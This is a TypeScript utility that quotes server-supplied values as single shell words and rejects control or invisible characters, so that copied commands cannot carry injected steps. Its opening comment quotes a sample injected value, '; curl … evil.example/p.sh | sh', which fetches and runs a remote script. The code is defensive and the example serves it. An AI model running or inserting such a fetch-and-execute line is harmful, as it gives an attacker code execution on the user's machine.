// Commands a person copies (from the job summary's ```sh blocks, from a "next step" in the terminal)
// are built here, never by pasting values into a string: a slug or a lease id comes from a server, and
// `6f1c…; curl -s https://evil.example/p.sh | sh; #` must stay one harmless argument.

// Words every POSIX shell (and zsh, whose `=word` and `~word` expand) takes as they are.
const PLAIN_WORD = /^[A-Za-z0-9_-][A-Za-z0-9_./:@%+,-]*$/;
// Control, format and other invisible characters (newlines, escapes, right-to-left overrides,
// fillers) cannot be pasted safely: a newline ends the command, an override or a hidden character
// makes the command read differently from what runs.
const UNPASTABLE = /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u;

/** Whether `text` can be pasted into a shell as it reads: no character in it acts or hides. */
export function pastable(text: string): boolean {
  return !UNPASTABLE.test(text);
}

/** `value` as exactly one shell word: as is when plain, single-quoted otherwise; null when unpastable. */
export function shellWord(value: string): string | null {
  if (!pastable(value)) return null;
  if (PLAIN_WORD.test(value)) return value;
  return `'${value.replaceAll("'", `'\\''`)}'`;
}

/**
 * A command line of `program` and its arguments, each quoted as one word; null when an argument
 * cannot be pasted, and the caller says what to do in words instead.
 */
export function shellCommand(words: readonly string[]): string | null {
  const quoted = words.map(shellWord);
  return quoted.every((word) => word !== null) ? quoted.join(' ') : null;
}
